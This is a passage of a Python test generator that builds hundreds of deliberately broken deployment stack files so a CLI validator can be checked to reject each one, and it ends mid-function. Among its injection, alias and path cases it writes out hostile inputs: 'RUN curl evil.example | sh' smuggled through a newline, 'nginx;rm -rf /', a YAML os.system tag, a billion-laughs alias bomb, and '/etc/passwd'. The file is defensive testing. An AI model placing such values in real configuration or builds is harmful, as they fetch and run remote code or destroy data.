"""A corpus of broken stack files, generated from the example stacks (stacks/*.yaml).

Every case is invalid by construction; `tests/cli/test_bad_stacks.py` runs `mldeploy synth` on
each and checks the promise: exit 2, one line `error: <file>: <key>: ...` naming the key,
no traceback, nothing written, the previous output kept. Classes (`Case.klass`):

  encoding   not UTF-8 text (latin-1, UTF-16, UTF-32, NUL bytes, invalid bytes)
  file       the stack file itself unusable (a folder, a FIFO, a dangling link, too big)
  yaml       YAML that does not parse (tabs, unclosed brackets, control characters)
  duplicate  a key written twice (every scalar line of every example stack, one at a time)
  alias      aliases and alias bombs (billion laughs), under any key
  depth      nesting deeper than any stack needs (YAML and JSON strings)
  namespace  a misspelt or missing namespace (`mldepoy:`, `services`, `:x`)
  unknown    a misspelt key in every settings mapping of every example stack
  type       a wrong type in every leaf (list, mapping, bool, number, string, NaN, inf)
  injection  a newline or image-reference metacharacter in every string leaf
  secret     a plain value where a secret is required, beside `secure:` ones
  path       every file key pointed outside the project, at a folder, FIFO, device, empty folder,
             binary or non-UTF-8 text, invalid conda YAML
  semantic   values that were silently wrong (system namespaces, reserved names, duplicates, ...),
             one case per rule of issue 24's kinds: values clashing across entries, Azure's naming
             and size rules, file contents, paths naming no file, plain-text secrets, keys of
             another mode, reserved Kubernetes namespaces (`issue24_cases`)
"""
from __future__ import annotations

import copy
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Callable, Iterator

import yaml

from tests.config.bad_stacks_h24b import h24b_cases, h24b_more_cases, make_h24b_files
from tests.config.bad_stacks_names import names_cases
from tests.config.bad_stacks_hbad import hbad_cases
from tests.config.bad_stacks_hbad2 import hbad2_cases

ROOT = Path(__file__).resolve().parents[2]
EXAMPLES = {p.name[len("Pulumi."):-len(".yaml")]: p for p in sorted((ROOT / "stacks").glob("Pulumi.*.yaml"))}
# Mappings whose keys are the user's own (names, tags, env...): a new key there is not a typo.
FREE_MAPS = {"tags", "env", "environmentVariables", "labels", "routes", "createOptions"}
NAME_MAPS = {"deployments", "revisions"}  # maps of names inside a section (v2 endpoints' deployments, container apps' revisions)
SECTIONS_OF_NAMES = {"mldeploy:models", "mldeploy:images", "mldeploy:services", "mldeploy:clusters",
                     "mldeploy:batch", "mldeploy:edge"}
PATH_KEYS = {"path", "entryScript", "condaFile", "requirementsFile", "sampleRequest"}
TEXT_KEYS = {"entryScript", "condaFile", "requirementsFile"}


@dataclass
class Case:
    id: str
    klass: str
    base: str                      # the example stack it was made from
    text: bytes                    # the whole stack file
    key: str                       # the key path the error must name (a prefix of it, or `line ...`)
    fragment: str = ""             # a piece of the message that must be there
    kind: str = "file"             # "file", "dir", "fifo", "link": what the stack file is


def _load(stack: str) -> dict[str, Any]:
    return yaml.safe_load(EXAMPLES[stack].read_text(encoding="utf-8"))


class _NoAliases(yaml.SafeDumper):
    def ignore_aliases(self, data: Any) -> bool:
        return True


def _dump(doc: dict[str, Any]) -> bytes:
    return yaml.dump(doc, Dumper=_NoAliases, sort_keys=False, allow_unicode=True, width=1000).encode("utf-8")


def _key(path: tuple) -> str:
    out = str(path[0])
    for part in path[1:]:
        out += f"[{part}]" if isinstance(part, int) else f".{part}"
    return out


def _get(doc: dict, path: tuple) -> Any:
    node = doc["config"]
    for part in path:
        node = node[part]
    return node


def _set(doc: dict, path: tuple, value: Any) -> None:
    node = doc["config"]
    for part in path[:-1]:
        node = node[part]
    node[path[-1]] = value


def _leaves(node: Any, path: tuple = ()) -> Iterator[tuple[tuple, Any]]:
    if isinstance(node, dict) and set(node) == {"secure"}:
        yield path, node
    elif isinstance(node, dict):
        for k, v in node.items():
            if k == "createOptions":  # free-form Docker options: any value is valid there
                continue
            yield from _leaves(v, (*path, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield from _leaves(v, (*path, i))
    else:
        yield path, node


def _settings_maps(node: Any, path: tuple = ()) -> Iterator[tuple]:
    """Paths of mappings whose keys are settings (not names, tags or free-form)."""
    if not isinstance(node, dict) or set(node) == {"secure"}:
        return
    is_names = (len(path) == 1 and path[0] in SECTIONS_OF_NAMES) or (path and path[-1] in NAME_MAPS)
    if path and not is_names and path[-1] not in FREE_MAPS and len(path) > 1:
        yield path
    for k, v in node.items():
        if isinstance(v, dict) and k not in FREE_MAPS:
            yield from _settings_maps(v, (*path, k))


def _mutated(stack: str, path: tuple, value: Any) -> bytes:
    doc = _load(stack)
    _set(doc, path, value)
    return _dump(doc)


# -- classes ----------------------------------------------------------------------------------

def encoding_cases() -> Iterator[Case]:
    text = EXAMPLES["dev"].read_text(encoding="utf-8") + "# café déjà vu\n"
    yield Case("latin1", "encoding", "dev", text.encode("latin-1"), "(file)", "not UTF-8")
    yield Case("utf16", "encoding", "dev", text.encode("utf-16"), "(file)", "UTF-16")
    yield Case("utf16be-bom", "encoding", "dev", "\ufeff".encode("utf-16-be") + text.encode("utf-16-be"), "(file)", "UTF-16")
    yield Case("utf32", "encoding", "dev", text.encode("utf-32"), "(file)", "UTF-32")
    for stack, path in EXAMPLES.items():  # every example stack, saved by an editor as latin-1 or UTF-16
        text = path.read_text(encoding="utf-8") + "# déjà\n"
        yield Case(f"{stack}-latin1", "encoding", stack, text.encode("latin-1", errors="replace"), "(file)", "UTF-8")
        yield Case(f"{stack}-utf16", "encoding", stack, text.encode("utf-16"), "(file)", "UTF-16")
    yield Case("nul-bytes", "encoding", "dev", text.encode() + b"\x00\x00", "(file)", "binary")
    yield Case("invalid-utf8", "encoding", "dev", text.encode() + b"\xff\xfe\xfa", "(file)", "not UTF-8")


def file_cases() -> Iterator[Case]:
    yield Case("stack-file-is-a-folder", "file", "dev", b"", "(file)", "folder", kind="dir")
    yield Case("stack-file-is-a-fifo", "file", "dev", b"", "(file)", "not a regular file", kind="fifo")
    yield Case("stack-file-dangling-link", "file", "dev", b"", "", "not found", kind="link")
    yield Case("stack-file-too-big", "file", "dev", b"config: {}\n" + b"#" * (2 * 1024 * 1024), "(file)", "larger")
    yield Case("not-a-mapping", "file", "dev", b"- config\n", "(file)", "mapping")
    yield Case("config-not-a-mapping", "file", "dev", b"config: [1, 2]\n", "config", "mapping")
    yield Case("unknown-top-level", "file", "dev", EXAMPLES["dev"].read_bytes() + b"confg: {}\n", "confg", "config")


def yaml_cases() -> Iterator[Case]:
    dev = EXAMPLES["dev"].read_text(encoding="utf-8")
    yield Case("tab-indent", "yaml", "dev", dev.replace("  mldeploy:images:", "\tmldeploy:images:").encode(), "line", "invalid YAML")
    yield Case("unclosed-bracket", "yaml", "dev", dev.replace("[diabetes]", "[diabetes").encode(), "line", "invalid YAML")
    yield Case("control-char", "yaml", "dev", dev.replace("Diabetes scoring image", "Diabetes\x07").encode(), "(file)", "invalid YAML")
    yield Case("bad-indent", "yaml", "dev", dev.replace("    diabetes:\n      path", "    diabetes:\n   path", 1).encode(), "line", "invalid YAML")
    yield Case("python-tag", "yaml", "dev", (dev + "  x: !!python/object/apply:os.system ['true']\n").encode(), "line", "invalid YAML")
    yield Case("huge-int", "yaml", "dev", dev.replace("version: 1", "version: " + "9" * 5000, 1).encode(), "(file)", "")
    yield Case("bad-date", "yaml", "dev", dev.replace("version: 1", "version: 2024-13-45", 1).encode(), "(file)", "")


def duplicate_cases() -> Iterator[Case]:
    for stack, path in EXAMPLES.items():
        lines = path.read_text(encoding="utf-8").splitlines(keepends=True)
        for i, line in enumerate(lines):
            if re.match(r"^\s+[A-Za-z][\w-]*(:[\w]+)?: [^\s#|>]", line) and "secure" not in line:
                dup = lines[:i + 1] + [line] + lines[i + 1:]
                name = line.strip().split(":")[0] if not line.strip().startswith("mldeploy:") else line.strip()[:20]
                yield Case(f"{stack}-dup-{i + 1}-{name}", "duplicate", stack, "".join(dup).encode(), "line", "duplicate key")


def alias_cases() -> Iterator[Case]:
    dev = EXAMPLES["dev"].read_text(encoding="utf-8")
    bomb = "".join(f"  x{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]\n" if i else "  x0: &a0 [lol]\n"
                   for i in range(10))
    yield Case("billion-laughs-unrelated-key", "alias", "dev", (dev + bomb.replace("  x", "  other:x")).encode(), "line", "aliases")
    yield Case("billion-laughs-in-tags", "alias", "dev",
               dev.replace("  mldeploy:tags:\n", "  mldeploy:tags:\n" + bomb.replace("  x", "    x")).encode(), "line", "aliases")
    yield Case("alias-of-a-service", "alias", "dev",
               (dev.replace("  mldeploy:services:\n", "  mldeploy:services: &svc\n") + "  other:copy: *svc\n").encode(),
               "line", "aliases")
    for stack in EXAMPLES:  # an alias of every section of every example stack
        for section in _load(stack)["config"]:
            d = _dump(_load(stack)).decode()
            head = f"\n  {section}:"
            if head not in d:
                continue
            d = d.replace(head, f"{head} &sec", 1) + "  other:copy: *sec\n"
            yield Case(f"{stack}-alias-{section}", "alias", stack, d.encode(), "line", "aliases")
    yield Case("merge-key", "alias", "prod", (EXAMPLES["prod"].read_text().replace("  mldeploy:clusters:\n    prod:\n",
               "  mldeploy:clusters:\n    prod: &c\n") + "  other:c:\n    <<: *c\n").encode(), "line", "aliases")


def depth_cases() -> Iterator[Case]:
    deep_yaml = "[" * 5000 + "]" * 5000
    dev = EXAMPLES["dev"].read_text(encoding="utf-8")
    yield Case("deep-flow-yaml", "depth", "dev", (dev + f"  other:deep: {deep_yaml}\n").encode(), "", "nested")
    block = "".join("  " * (i + 1) + f"k{i}:\n" for i in range(200)) + "  " * 201 + "v\n"
    yield Case("deep-block-yaml", "depth", "dev", (dev + "  mldeploy:tags:\n" + block.replace("  k0", "   k0", 0)).encode(), "line", "")
    for stack in EXAMPLES:
        for section in _load(stack)["config"]:
            if section.startswith("mldeploy:") and section != "mldeploy:production":
                doc = _load(stack)
                doc["config"][section] = '{"a":' * 3000 + "1" + "}" * 3000
                yield Case(f"{stack}-deep-json-{section[9:]}", "depth", stack, _dump(doc), section, "")


def namespace_cases() -> Iterator[Case]:
    for stack in EXAMPLES:
        doc = _load(stack)
        config = doc["config"]
        key = next(k for k in config if k.startswith("mldeploy:") and k != "mldeploy:production")
        for wrong in ("mldepoy:", "MLDeploy:", "mldeploy-:", "mldploy:"):
            d = copy.deepcopy(doc)
            d["config"] = {(wrong + k[9:] if k == key else k): v for k, v in config.items()}
            yield Case(f"{stack}-{wrong[:-1]}", "namespace", stack, _dump(d), wrong + key[9:], "namespace")
        d = copy.deepcopy(doc)
        d["config"] = {(k[9:] if k == key else k): v for k, v in config.items()}
        yield Case(f"{stack}-no-namespace", "namespace", stack, _dump(d), key[9:], "namespace:key")


def unknown_cases() -> Iterator[Case]:
    for stack in EXAMPLES:
        doc = _load(stack)
        for path in _settings_maps(doc["config"]):
            mapping = _get(doc, path)
            first = next(iter(mapping))
            d = _load(stack)
            node = _get(d, path)
            node[first + "x"] = node.pop(first)
            yield Case(f"{stack}-typo-{_key(path)}.{first}", "unknown", stack, _dump(d),
                       f"{_key(path)}.{first}x", "unknown key")


def _wrong_values(value: Any) -> list[tuple[str, Any]]:
    # Two or three per leaf, chosen so that every kind of wrong value occurs for every kind of leaf
    # somewhere in the corpus (lists and mappings for all, NaN/inf for numbers) without
    # multiplying the run time.
    if isinstance(value, bool):
        return [("string-no", "no"), ("number", 1)]
    if isinstance(value, (int, float)):
        return [("bool", True), ("string", str(value)), ("nan" if value % 2 else "inf", float("nan") if value % 2 else float("inf"))]
    if isinstance(value, str):
        return [("number", 12), ("list", [value]) if len(value) % 2 else ("mapping", {"a": value})]
    return []


def type_cases() -> Iterator[Case]:
    for stack in EXAMPLES:
        for path, value in _leaves(_load(stack)["config"]):
            if path[0] == "azure-native:location" or not str(path[0]).startswith("mldeploy:"):
                continue
            for label, wrong in _wrong_values(value):
                if path[0] == "mldeploy:production" and label in ("string-no",):
                    wrong = "yes"
                yield Case(f"{stack}-{_key(path)}-{label}", "type", stack, _mutated(stack, path, wrong), _key(path))


def injection_cases() -> Iterator[Case]:
    for stack in EXAMPLES:
        for path, value in _leaves(_load(stack)["config"]):
            if isinstance(value, str) and str(path[0]).startswith("mldeploy:"):
                yield Case(f"{stack}-{_key(path)}-newline", "injection", stack,
                           _mutated(stack, path, value + "\nRUN curl evil.example | sh"), _key(path))
    for stack, path in (("dev", ("mldeploy:images", "diabetes", "baseImage")),
                        ("prod", ("mldeploy:services", "diabetes", "gatewayImage")),
                        ("prod", ("mldeploy:services", "diabetes", "collectorImage")),
                        ("batch", ("mldeploy:batch", "nightly", "baseImage"))):
        for label, bad in (("as-stage", "python:3.11 AS evil"), ("space-run", "x RUN id"),
                           ("semicolon", "nginx;rm -rf /"), ("quote", 'nginx"')):
            if path[1] in _load(stack)["config"].get(path[0], {}):
                yield Case(f"{stack}-{_key(path)}-{label}", "injection", stack, _mutated(stack, path, bad),
                           _key(path), "image reference")


def secret_cases() -> Iterator[Case]:
    doc = _load("prod-attach")
    for path, value in _leaves(doc["config"]):
        if isinstance(value, dict) and set(value) == {"secure"}:
            yield Case(f"prod-attach-{_key(path)}-plain", "secret", "prod-attach",
                       _mutated("prod-attach", path, "-----BEGIN CERTIFICATE-----plain"), _key(path), "secret")
            yield Case(f"prod-attach-{_key(path)}-empty-secure", "secret", "prod-attach",
                       _mutated("prod-attach", path, {"secure": ""}), _key(path), "")
    for stack in EXAMPLES:  # every service of every target: one plain key beside a secure one
        for service in _load(stack)["config"].get("mldeploy:services", {}):
            d = _load(stack)
            svc = d["config"]["mldeploy:services"][service]
            svc.pop("authMode", None)
            svc["keys"] = {"primary": {"secure": "v1:AAAA:cipher"}, "secondary": "plain-secondary-key-123456"}
            yield Case(f"{stack}-{service}-plain-key-beside-secure", "secret", stack, _dump(d),
                       f"mldeploy:services.{service}.keys.secondary", "")


def _svc(stack: str) -> str:
    return next(iter(_load(stack)["config"]["mldeploy:services"]))


def path_cases() -> Iterator[Case]:
    bad = [("absolute-outside", "/etc/passwd", "relative"), ("dotdot", "../outside/file.txt", ".."),
           ("empty", "", "project root"), ("dot", ".", "project root"),
           ("symlink-out", "hostile/link-out", "outside"), ("fifo", "hostile/fifo", "not a regular"),
           ("device", "hostile/device", "not a regular"), ("missing", "hostile/nothing-here", "not found"),
           ("home", "~/x", "relative")]
    for stack in EXAMPLES:
        for path, value in _leaves(_load(stack)["config"]):
            if not path or path[-1] not in PATH_KEYS:
                continue
            cases = list(bad)
            if path[-1] == "path":
                cases.append(("empty-folder", "hostile/empty-folder", "no files"))
                cases.append(("folder-with-fifo", "hostile/folder-with-fifo", "not a regular"))
            else:
                cases.append(("folder", "hostile/empty-folder", "folder"))
            if path[-1] in TEXT_KEYS:
                cases.append(("binary", "hostile/binary.txt", "binary"))
                cases.append(("latin1", "hostile/latin1.txt", "not UTF-8"))
            if path[-1] == "condaFile":
                cases.append(("invalid-yaml", "hostile/invalid-conda.yml", "invalid YAML"))
                cases.append(("not-conda", "hostile/list.yml", "conda"))
            for label, target, fragment in cases:
                yield Case(f"{stack}-{_key(path)}-{label}", "path", stack, _mutated_path(stack, path, target),
                           _key(path), fragment)


def _mutated_path(stack: str, path: tuple, value: Any) -> bytes:
    """The stack with the path at `path` replaced by `value`, a path from the project root: an
    entryScript under a sourceDirectory (stack kubernetes-endpoint) loses that key, which would
    make it relative to the folder."""
    doc = _load(stack)
    _set(doc, path, value)
    if path[-1] == "entryScript":
        parent = doc["config"]
        for part in path[:-1]:
            parent = parent[part]
        parent.pop("sourceDirectory", None)
    return _dump(doc)


def semantic_cases() -> Iterator[Case]:
    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str = "") -> Case:
        d = _load(stack)
        edit(d["config"])
        return Case(id_, "semantic", stack, _dump(d), key, fragment)

    s = "mldeploy:services"
    prod, fpga, dev = _svc("prod"), _svc("fpga"), _svc("dev")
    yield case("location-list", "dev", lambda c: c.update({"azure-native:location": ["westeurope", "northeurope"]}),
               "azure-native:location", "region")
    yield case("location-map", "dev", lambda c: c.update({"azure-native:location": {"a": 1}}), "azure-native:location")
    yield case("location-newline", "dev", lambda c: c.update({"azure-native:location": "west\neurope"}), "azure-native:location")
    for stack in EXAMPLES:
        if s in _load(stack)["config"]:
            name = _svc(stack)
            yield case(f"{stack}-target-list", stack, lambda c, n=name: c[s][n].update(target=["aks"]), f"{s}.{name}.target")
            yield case(f"{stack}-target-map", stack, lambda c, n=name: c[s][n].update(target={"aks": 1}), f"{s}.{name}.target")
            yield case(f"{stack}-auth-no", stack, lambda c, n=name: c[s][n].update(authEnabled="no"), f"{s}.{name}.authEnabled")
            if _load(stack)["config"][s][name]["target"] not in ("local", "aci", "aks", "fpga"):
                continue  # v2 endpoints size each deployment (covered by the type class)
            yield case(f"{stack}-cpu-true", stack, lambda c, n=name: c[s][n].update(cpuCores=True), f"{s}.{name}.cpuCores")
            yield case(f"{stack}-cpu-nan", stack, lambda c, n=name: c[s][n].update(cpuCores=float("nan")), f"{s}.{name}.cpuCores", "finite")
            yield case(f"{stack}-memory-inf", stack, lambda c, n=name: c[s][n].update(memoryGb=float("inf")), f"{s}.{name}.memoryGb", "finite")
    yield case("production-yes", "dev", lambda c: c.update({"mldeploy:production": "yes"}), "mldeploy:production")
    for ns in ("kube-system", "kube-public", "default", "gatekeeper-system"):
        yield case(f"prod-namespace-{ns}", "prod", lambda c, ns=ns: c[s][prod].update(namespace=ns), f"{s}.{prod}.namespace", "namespace")
    yield case("prod-service-named-kube-system", "prod",
               lambda c: c[s].update({"kube-system": c[s].pop(prod)}), f"{s}.kube-system", "namespace")
    yield case("fpga-pool-system", "fpga", lambda c: c[s][fpga].update(fpgaPoolName="system"), f"{s}.{fpga}.fpgaPoolName", "system")
    yield case("prod-two-services-one-dns-label", "prod",
               lambda c: c[s].update({prod: {**c[s][prod], "dnsLabel": "same"},
                                      "second": {**c[s][prod], "dnsLabel": "same", "namespace": "second"}}),
               f"{s}.second.dnsLabel", "DNS label")
    yield case("prod-two-services-one-namespace", "prod",
               lambda c: c[s].update({"second": {**c[s][prod], "namespace": prod, "dnsLabel": "other-label",
                                                 "hostName": "second.ml.contoso.com"}}),
               f"{s}.second.namespace", "namespace")
    for tag in ("mldeploy-production", "mldeploy-auth", "MLDEPLOY-TLS", "a/b", "x<y", "50%"):
        yield case(f"dev-tag-{tag}", "dev", lambda c, t=tag: c["mldeploy:tags"].update({t: "x"}), "mldeploy:tags", "tag name")
        yield case(f"prod-model-tag-{tag}", "prod", lambda c, t=tag: c["mldeploy:models"]["diabetes"]["tags"].update({t: "x"}),
                   "mldeploy:models.diabetes.tags", "tag name")
    yield case("edge-module-edgeAgent", "edge", lambda c: c["mldeploy:edge"]["clinics"].update(moduleName="edgeAgent"),
               "mldeploy:edge.clinics.moduleName", "reserved")
    yield case("edge-module-edgeHub", "edge", lambda c: c["mldeploy:edge"]["clinics"].update(moduleName="edgeHub"),
               "mldeploy:edge.clinics.moduleName", "reserved")
    yield case("prod-vcpus-listed-size", "prod", lambda c: c["mldeploy:clusters"]["prod"].update(vcpusPerNode=16),
               "mldeploy:clusters.prod", "vcpusPerNode")
    yield case("workspace-create-false-no-name", "dev", lambda c: c.update({"mldeploy:workspace": {"create": False}}),
               "mldeploy:workspace", "name")
    yield case("resource-group-slash", "dev", lambda c: c.update({"mldeploy:resourceGroup": "rg/x"}), "mldeploy:resourceGroup")
    yield case("dev-service-name-upper", "dev", lambda c: c[s].update({"Web": c[s].pop(dev)}), f"{s}.Web", "invalid name")
    yield case("dev-service-name-number", "dev", lambda c: c[s].update({7: c[s].pop(dev)}), f"{s}", "invalid name")
    yield case("dev-service-not-a-map", "dev", lambda c: c[s].update({dev: [1, 2]}), f"{s}.{dev}", "mapping")
    yield case("dev-services-a-list", "dev", lambda c: c.update({s: [1]}), s, "mapping")


def issue24_cases() -> Iterator[Case]:
    """One case per rule added for issue 24 (docs/bad-input.md); each names the key it breaks."""
    def case(id_: str, stack: str, edit: Callable[[dict], None], key: str, fragment: str = "") -> Case:
        d = _load(stack)
        edit(d["config"])
        return Case(id_, "semantic", stack, _dump(d), key, fragment)

    s, e, b = "mldeploy:services", "mldeploy:edge", "mldeploy:batch"
    same = {"secure": "v1:3q2+7wAAAAAAAAAAAAAAAA==:same-ciphertext"}

    def copy_service(c: dict, src: str, dst: str, **extra: Any) -> None:
        c[s][dst] = {**copy.deepcopy(c[s][src]), **extra}

    def copy_edge(c: dict, dst: str, **extra: Any) -> None:
        c[e][dst] = {**copy.deepcopy(c[e]["clinics"]), **extra}

    # -- values that clash across entries --------------------------------------------------------
    yield case("local-two-services-one-port", "local", lambda c: copy_service(c, "diabetes", "second"),
               f"{s}.second.port", "port 8890")
    yield case("managed-two-endpoints-one-name", "managed",
               lambda c: (c[s]["diabetes"].update(endpointName="scoring-ep"),
                          copy_service(c, "diabetes", "second", endpointName="scoring-ep"),
                          c.pop("mldeploy:endpointQuota")),
               f"{s}.second.endpointName", "endpoint name")
    yield case("managed-derived-endpoint-names-collide", "managed",
               lambda c: (copy_service(c, "diabetes", "diabetes-regression-endpoint-a"),
                          copy_service(c, "diabetes", "diabetes-regression-endpoint-b"),
                          c[s].pop("diabetes"), c.pop("mldeploy:endpointQuota")),
               f"{s}.diabetes-regression-endpoint-b", "endpoint name")
    yield case("batch-derived-endpoint-names-collide", "batch",
               lambda c: c[b].update({"nightly-diabetes-scoring-batch-a": c[b]["nightly"],
                                      "nightly-diabetes-scoring-batch-b": c[b].pop("nightly")}),
               f"{b}.nightly-diabetes-scoring-batch-b", "endpoint name")
    yield case("batch-compute-name-of-attached-cluster", "kubernetes-endpoint",
               lambda c: c.update({b: {"k8s-inference": _load("batch")["config"][b]["nightly"]}}),
               "mldeploy:clusters.inference", "compute name")
    yield case("edge-two-entries-create-one-hub", "edge", lambda c: copy_edge(c, "second"),
               f"{e}.second.iotHub.name", "also created")
    yield case("edge-existing-hub-created-here", "edge",
               lambda c: copy_edge(c, "second", iotHub={"name": c[e]["clinics"]["iotHub"]["name"], "existing": True}),
               f"{e}.second.iotHub.existing", "created by")
    yield case("edge-two-free-hubs", "edge",
               lambda c: (c[e]["clinics"]["iotHub"].update(sku="F1"),
                          copy_edge(c, "second", iotHub={"name": "iot-second-hub", "sku": "F1"})),
               f"{e}.second.iotHub.sku", "free")

    def one_device(c: dict) -> None:
        for k in ("targetCondition", "priority", "labels"):
            c[e]["clinics"].pop(k)
        c[e]["clinics"].update(deviceId="clinic-7", iotHub={"name": "iot-shared", "existing": True})
        copy_edge(c, "second")
    yield case("edge-one-device-two-entries", "edge", one_device, f"{e}.second.deviceId", "one deployment manifest")
    yield case("edge-same-devices-same-priority", "edge",
               lambda c: copy_edge(c, "second", iotHub={"name": "iot-shared", "existing": True},
                                   moduleName="diabetes2")
               or c[e]["clinics"].update(iotHub={"name": "iot-shared", "existing": True}),
               f"{e}.second.priority", "same priority")
    yield case("dev-image-model-twice", "dev", lambda c: c["mldeploy:images"]["diabetes"].update(models=["diabetes"] * 2),
               "mldeploy:images.diabetes.models", "twice")
    yield case("prod-attach-same-ciphertext-both-keys", "prod-attach",
               lambda c: c[s]["diabetes"].update(keys={"primary": same, "secondary": same}),
               f"{s}.diabetes.keys", "same secret")
    yield case("managed-same-ciphertext-both-keys", "managed",
               lambda c: c[s]["diabetes"].update(keys={"primary": same, "secondary": same}),
               f"{s}.diabetes.keys", "same secret")
    yield case("prod-attach-tls-certificate-is-key", "prod-attach",
               lambda c: c[s]["diabetes"].update(tls={"certificate": same, "key": same}),
               f"{s}.diabetes.tls", "same secret")
    yield case("prod-attach-one-cluster-attached-twice", "prod-attach",
               lambda c: c["mldeploy:clusters"].update(shared2=copy.deepcopy(c["mldeploy:clusters"]["shared"])),
               "mldeploy:clusters.shared2.attach", "already attached")
    yield case("prod-two-services-one-host-name", "prod", lambda c: copy_service(c, "diabetes", "second"),
               f"{s}.second.hostName", "host name")
    yield case("k8s-endpoint-namespace-taken-by-aks-service", "kubernetes-endpoint",
               lambda c: c[s].update(web={"target": "aks", "cluster": "inference", "image": "diabetes",
                                          "namespace": "azureml"}),
               f"{s}.web.namespace", "Azure ML extension")

    # -- Azure's naming and size rules -----------------------------------------------------------
    for label in ("1scoring", "ab", "Scoring", "scoring-"):
        yield case(f"prod-attach-dns-label-{label}", "prod-attach", lambda c, v=label: c[s]["diabetes"].update(dnsLabel=v),
                   f"{s}.diabetes.dnsLabel")
    for name in ("-aks", "aks_", "aks.platform", "a" * 64, "aks platform"):
        yield case(f"prod-attach-attach-name-{name[:12]}", "prod-attach",
                   lambda c, v=name: c["mldeploy:clusters"]["shared"]["attach"].update(name=v),
                   "mldeploy:clusters.shared.attach.name")
    yield case("prod-cluster-vm-size-not-a-size", "prod",
               lambda c: c["mldeploy:clusters"]["prod"].update(vmSize="Standard D3 v2", vcpusPerNode=4),
               "mldeploy:clusters.prod.vmSize")
    yield case("dev-aci-cpu-over-group", "dev", lambda c: c[s]["diabetes-aci"].update(cpuCores=32),
               f"{s}.diabetes-aci", "at most 31 CPUs and 240 GB")
    yield case("dev-aci-memory-over-group", "dev", lambda c: c[s]["diabetes-aci"].update(memoryGb=241),
               f"{s}.diabetes-aci", "at most 31 CPUs and 240 GB")
    for sku, units in (("F1", 2), ("S3", 11), ("S2", 201)):
        yield case(f"edge-hub-{sku}-{units}-units", "edge",
                   lambda c, k=sku, n=units: c[e]["clinics"]["iotHub"].update(sku=k, capacity=n), f"{e}.clinics.iotHub")
    yield case("edge-hub-name-ends-with-hyphen", "edge", lambda c: c[e]["clinics"]["iotHub"].update(name="iot-clinics-"),
               f"{e}.clinics.iotHub.name")
    yield case("edge-host-port-of-edge-hub", "edge", lambda c: c[e]["clinics"].update(hostPort=8883),
               f"{e}.clinics.hostPort", "edgeHub")
    yield case("edge-port-of-edge-hub-as-host-port", "edge",
               lambda c: (c[e]["clinics"].pop("hostPort"), c[e]["clinics"].update(port=443)),
               f"{e}.clinics", "edgeHub")
    yield case("fpga-region-not-a-region", "fpga", lambda c: c[s]["diabetes-fpga"].update(fpgaRegions=["../eastus"]),
               f"{s}.diabetes-fpga.fpgaRegions", "region")
    yield case("batch-mini-batch-over-int64", "batch", lambda c: c[b]["nightly"].update(miniBatchSize=2**63),
               f"{b}.nightly.miniBatchSize")
    yield case("batch-error-threshold-over-int32", "batch", lambda c: c[b]["nightly"].update(errorThreshold=2**31),
               f"{b}.nightly.errorThreshold")
    for name in ("1WORKERS", "MY-VAR", "A=B", "my.var", ""):
        yield case(f"edge-env-name-{name or 'empty'}", "edge", lambda c, v=name: c[e]["clinics"]["env"].update({v: "1"}),
                   f"{e}.clinics.env", "environment variable")
        yield case(f"managed-env-name-{name or 'empty'}", "managed",
                   lambda c, v=name: c[s]["diabetes"]["deployments"]["blue"].update(environmentVariables={v: "1"}),
                   f"{s}.diabetes.deployments.blue.environmentVariables", "environment variable")
    yield case("prod-dns-zone-group-slash", "prod", lambda c: c[s]["diabetes"]["dnsZone"].update(resourceGroup="rg/dns"),
               f"{s}.diabetes.dnsZone.resourceGroup")
    for issuer in ("Lets_Encrypt", "..", "-issuer"):
        yield case(f"prod-issuer-{issuer}", "prod", lambda c, v=issuer: c[s]["diabetes"]["certManager"].update(issuer=v),
                   f"{s}.diabetes.certManager.issuer")
    yield case("dev-tags-differ-in-case", "dev", lambda c: c["mldeploy:tags"].update(Owner="someone"),
               "mldeploy:tags", "case")
    yield case("dev-too-many-tags", "dev", lambda c: c["mldeploy:tags"].update({f"t{i}": "x" for i in range(45)}),
               "mldeploy:tags", "at most")
    yield case("managed-quota-negative", "managed", lambda c: c["mldeploy:endpointQuota"].update(standardFSv2Family=-4),
               "mldeploy:endpointQuota.standardFSv2Family")
    yield case("managed-quota-unknown-family", "managed", lambda c: c["mldeploy:endpointQuota"].update(standardFsV2=8),
               "mldeploy:endpointQuota.standardFsV2", "unknown VM family")
    yield case("prod-pod-larger-than-node", "prod", lambda c: c[s]["diabetes"].update(cpuCores=4),
               f"{s}.diabetes.cpuCores", "never be scheduled")
    yield case("k8s-endpoint-instance-larger-than-node", "kubernetes-endpoint",
               lambda c: c[s]["diabetes"]["deployments"]["blue"].update(cpuCores=6),
               f"{s}.diabetes.deployments.blue.cpuCores", "never be scheduled")

    # -- file contents ---------------------------------------------------------------------------
    for label, bad in (("syntax", "hostile/not-python.py"), ("return-outside", "hostile/return-outside.py"),
                       ("yaml", "examples/diabetes/myenv.yml")):
        yield case(f"dev-entry-script-{label}", "dev", lambda c, v=bad: c["mldeploy:images"]["diabetes"].update(entryScript=v),
                   "mldeploy:images.diabetes.entryScript", "not valid Python")
        yield case(f"batch-entry-script-{label}", "batch", lambda c, v=bad: c[b]["nightly"].update(entryScript=v),
                   f"{b}.nightly.entryScript", "not valid Python")
    for label, bad in (("python", "examples/diabetes/score.py"), ("broken", "hostile/not-json.json")):
        yield case(f"dev-sample-request-{label}", "dev",
                   lambda c, v=bad: c["mldeploy:images"]["diabetes"].update(sampleRequest=v),
                   "mldeploy:images.diabetes.sampleRequest", "not JSON")
        yield case(f"fpga-service-sample-request-{label}", "fpga",
                   lambda c, v=bad: c[s]["diabetes-fpga"].update(sampleRequest=v),
                   f"{s}.diabetes-fpga.sampleRequest", "not JSON")
        yield case(f"managed-sample-request-{label}", "managed",
                   lambda c, v=bad: c[s]["diabetes"].update(sampleRequest=v), f"{s}.diabetes.sampleRequest", "not JSON")
    yield case("dev-conda-dependency-not-a-spec", "dev",
               lambda c: c["mldeploy:images"]["diabetes"].update(condaFile="hostile/conda-bad-deps.yml"),
               "mldeploy:images.diabetes.condaFile", "dependencies[1]")
    for label, options in (("nan", {"HostConfig": {"Memory": float("nan")}}),
                           ("date", {"Labels": {"built": __import__("datetime").date(2024, 1, 2)}}),
                           ("int-key", {"HostConfig": {1: "x"}}), ("string", "{\"HostConfig\": {}}")):
